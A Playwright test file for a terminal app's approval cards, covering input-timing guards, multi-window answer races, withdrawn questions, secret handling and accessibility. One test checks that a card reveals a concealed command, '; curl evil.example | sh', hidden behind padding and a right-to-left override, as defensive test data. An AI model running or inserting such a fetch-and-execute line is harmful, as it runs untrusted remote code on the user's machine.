import type { Page } from 'playwright/test';
import { violationsIn } from './accessibility.ts';
import { askerOf, runOrStop } from './asker.ts';
import { sampleQuestions } from './card-samples.ts';
import { expect, test } from './fixtures.ts';
import { screenOf, typeLine } from './terminal.ts';
import { closeAndReopen } from './windows.ts';

/** 200 in a stress run (BERTH_RACES=200); each is a whole click in two real windows. */
const RACES = Number(process.env['BERTH_RACES'] ?? 10);
/** C6: keys rest for 500 ms after a card appeared or moved, the pointer for 300 ms. */
const REST_MS = 700;
const question = { title: 'Run it?', asker: { name: 'deploy' }, options: runOrStop };
const cardOf = (window: Page, name = 'Run it?') => window.getByRole('article', { name });

test('C6 a card that appears while "1 y Enter Space" is typed approves nothing', async ({
  home,
  project,
  opened,
}) => {
  const { window } = opened;
  const asker = await askerOf(home, project);
  const states: string[] = [];
  const asking = asker.call('question.ask', question);
  void asking.then(({ state }) => states.push(state.kind));
  await window.locator('[role="tabpanel"]:visible .xterm-helper-textarea').focus();
  while (!(await cardOf(window).isVisible())) await window.keyboard.type('1y ');
  await window.keyboard.type('1y \n ');
  const hasKeyboard = await cardOf(window).evaluate((card) =>
    card.contains(document.activeElement),
  );
  expect([hasKeyboard, states]).toEqual([false, []]);
  // By keyboard alone: to the tray, to a button, and only there a key answers.
  await window.getByRole('region', { name: /^Questions/ }).focus();
  await window.keyboard.press('Enter');
  const run = cardOf(window).getByRole('button', { name: 'Run' });
  for (let tabs = 0; tabs < 12 && !(await run.evaluate(hasFocus)); tabs++) {
    await window.keyboard.press('Tab');
  }
  await window.waitForTimeout(REST_MS);
  expect(states).toEqual([]);
  await window.keyboard.press('Enter');
  expect((await asking).state).toMatchObject({ optionId: 'allow', by: 'window 1' });
  asker.dispose();
});

const hasFocus = (element: Element) => element === document.activeElement;

test('C6 a card that arrives or moves under the pointer ignores the click', async ({
  home,
  project,
  opened,
}) => {
  const { window } = opened;
  const asker = await askerOf(home, project);
  const first = asker.call('question.ask', question);
  const second = asker.call('question.ask', { ...question, title: 'And this?' });
  const below = cardOf(window, 'And this?').getByRole('button', { name: 'Run' });
  await expect(below).toBeVisible();
  await window.waitForTimeout(REST_MS);
  // The one above goes, the one below moves up: clicked in the frame in which it has moved.
  const clicked = below.evaluate(
    (button) =>
      new Promise<void>((resolve) => {
        const before = button.getBoundingClientRect().top;
        const look = () => {
          if (Math.abs(button.getBoundingClientRect().top - before) < 5)
            return void requestAnimationFrame(look);
          const init = { bubbles: true, cancelable: true, detail: 1 };
          button.dispatchEvent(new PointerEvent('pointerdown', init));
          button.dispatchEvent(new MouseEvent('click', init));
          resolve();
        };
        look();
      }),
  );
  await cardOf(window).getByRole('button', { name: 'Stop' }).click();
  expect((await first).state).toMatchObject({ optionId: 'deny' });
  await clicked;
  await expect(below).toBeEnabled();
  await window.waitForTimeout(REST_MS);
  await below.click();
  expect((await second).state).toMatchObject({ optionId: 'allow' });
  asker.dispose();
});

test(`C1 two windows answer at once, ${RACES} times: one wins, the other says who`, async ({
  home,
  project,
  opened: { berth, window },
}) => {
  test.setTimeout(60_000 + RACES * 6_000);
  const next = berth.waitForEvent('window');
  await window.keyboard.press('Control+Shift+N');
  const other = await next;
  const asker = await askerOf(home, project);
  const won: string[] = [];
  for (let race = 0; race < RACES; race++) {
    const title = `Race ${race}?`;
    const asking = asker.call('question.ask', { ...question, title });
    const cards = [cardOf(window, title), cardOf(other, title)];
    for (const card of cards) await expect(card).toBeVisible();
    await window.waitForTimeout(REST_MS);
    const [mine, theirs] = cards.map((card, at) =>
      card.getByRole('button', { name: at ? 'Stop' : 'Run' }),
    );
    await Promise.all([press(mine), press(theirs)]);
    const { state } = await asking;
    if (state.kind !== 'answered') throw new Error(`it is ${state.kind}`);
    won.push(state.by);
    const [winner, loser] = state.by === 'window 1' ? [window, other] : [other, window];
    await expect(cardOf(winner, title)).toContainText('You answered');
    await expect(cardOf(loser, title)).toContainText(`Answered in ${state.by}`);
  }
  expect(won).toHaveLength(RACES);
  asker.dispose();
});

/** One press in the page itself, without the checks that would let the other window go first. */
async function press(button: ReturnType<Page['getByRole']> | undefined): Promise<void> {
  await button?.evaluate((element) => {
    const init = { bubbles: true, cancelable: true, detail: 1 };
    element.dispatchEvent(new PointerEvent('pointerdown', init));
    element.dispatchEvent(new MouseEvent('click', init));
  });
}

test('C2 closing every window answers nothing; the asker takes its card along; the host tells the asker', async ({
  home,
  project,
  secondLaunch,
  opened: { berth, window },
}) => {
  const asker = await askerOf(home, project);
  const stays = asker.call('question.ask', question).then(
    ({ state }) => state.kind,
    ({ code }) => code,
  );
  const goes = await askerOf(home, project);
  void goes.call('question.ask', { ...question, title: 'Mine?' }).catch(() => {});
  await expect(cardOf(window, 'Mine?')).toBeVisible();
  const again = await closeAndReopen(berth, secondLaunch);
  await expect(again.getByRole('article')).toHaveCount(2);
  await expect(again.getByRole('article').first()).toContainText('Run it?');
  goes.dispose();
  await expect(cardOf(again, 'Mine?')).toContainText('Withdrawn: the program that asked went away');
  berth.process().kill('SIGTERM');
  expect(['withdrawn', 'CONNECTION_CLOSED']).toContain(await stays);
});

test('C9 U11 each kind of card is whole, named and clean by axe; a secret is in its own window alone', async ({
  home,
  project,
  opened: { window },
}) => {
  const asker = await askerOf(home, project);
  const asked = new Map<string, ReturnType<typeof asker.call<'question.ask'>>>();
  for (const sample of sampleQuestions) asked.set(sample.title, asker.call('question.ask', sample));
  await expect(window.getByRole('article')).toHaveCount(sampleQuestions.length);
  const hiding = cardOf(window, 'Clean the build folder');
  await expect(hiding).toContainText('[10000 spaces]');
  await expect(hiding).toContainText('[U+202E]');
  await expect(hiding).toContainText('; curl evil.example | sh');
  for (const colorScheme of ['light', 'dark'] as const) {
    await window.emulateMedia({ colorScheme });
    expect(await violationsIn(window)).toEqual([]);
  }
  const secret = cardOf(window, 'API key');
  // Scrolling moves the card, and what moves ignores clicks for a moment.
  await secret.scrollIntoViewIfNeeded();
  await window.waitForTimeout(REST_MS);
  await secret.getByRole('button', { name: 'Send' }).click();
  await expect(secret.getByRole('alert')).toContainText('Secret is needed.');
  await secret.getByLabel('Secret').fill('hunter 2');
  await secret.getByLabel('Secret').press('Enter');
  // Hidden and shown again, the card still has what was typed.
  await window.keyboard.press('Control+Shift+J');
  await expect(secret).toBeHidden();
  await window.keyboard.press('Control+Shift+J');
  await expect(secret.getByLabel('Secret')).toHaveValue('hunter 2');
  await secret.scrollIntoViewIfNeeded();
  await window.waitForTimeout(2 * REST_MS);
  await expect(secret.getByRole('button', { name: 'Send' })).toBeEnabled();
  await secret.getByRole('button', { name: 'Send' }).click();
  expect((await asked.get('API key for the staging server'))?.value).toBe('hunter 2');
  await expect(secret).toContainText('You answered “Send”');
  expect(await window.content()).not.toContain('hunter 2');
  expect(await violationsIn(window)).toEqual([]);
  for (const promise of asked.values()) promise.catch(() => {});
  asker.dispose();
});

test('U3 the session that waits needs you; the card leads to it, and it leads back to the card', async ({
  opened: { window },
}) => {
  await typeLine(window, 'berth ask "Here?" --text');
  await expect(cardOf(window, 'Here?')).toBeVisible();
  await window.keyboard.press('Control+Shift+T');
  await expect(window.getByRole('tab')).toHaveCount(2);
  const waiting = window.getByRole('button', { name: /needs you/ });
  await expect(waiting).toHaveCount(1);
  await cardOf(window, 'Here?')
    .getByRole('button', { name: /project/ })
    .click();
  await expect(window.getByRole('tab').first()).toHaveAttribute('aria-selected', 'true');
  await window.keyboard.press('Control+Shift+J');
  await expect(cardOf(window, 'Here?')).toBeHidden();
  await waiting.click();
  await expect(cardOf(window, 'Here?')).toHaveClass(/card-pointed/);
  await cardOf(window, 'Here?').getByLabel('Answer').fill('right here');
  await window.waitForTimeout(REST_MS);
  await cardOf(window, 'Here?').getByRole('button', { name: 'Send' }).click();
  await expect(screenOf(window)).toContainText('right here');
  await expect(window.getByRole('button', { name: /needs you/ })).toHaveCount(0);
});

test('C13 what a terminal paints is no card; 30 cards leave the terminal and the oldest card usable', async ({
  home,
  project,
  opened: { berth, window },
}) => {
  await typeLine(window, `printf '\\033[2J\\033[HBerth asks: Run it?\\n[Run] [Stop]\\n'`);
  await expect(screenOf(window)).toContainText('Berth asks');
  await expect(window.getByRole('article')).toHaveCount(0);
  const asker = await askerOf(home, project);
  const asked = Array.from({ length: 30 }, (_, at) =>
    asker.call('question.ask', { ...question, title: `Question ${at + 1}?` }),
  );
  await expect(window.getByRole('region', { name: 'Questions, 30 open' })).toBeVisible();
  const title = () =>
    berth.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getTitle());
  await expect.poll(title).toMatch(/^\(30\) /);
  await typeLine(window, 'echo still-$((40+2))');
  await expect(screenOf(window)).toContainText('still-42');
  await window.waitForTimeout(REST_MS);
  await cardOf(window, 'Question 1?').getByRole('button', { name: 'Run' }).click();
  expect((await asked[0])?.state).toMatchObject({ optionId: 'allow' });
  for (const promise of asked) promise.catch(() => {});
  asker.dispose();
});
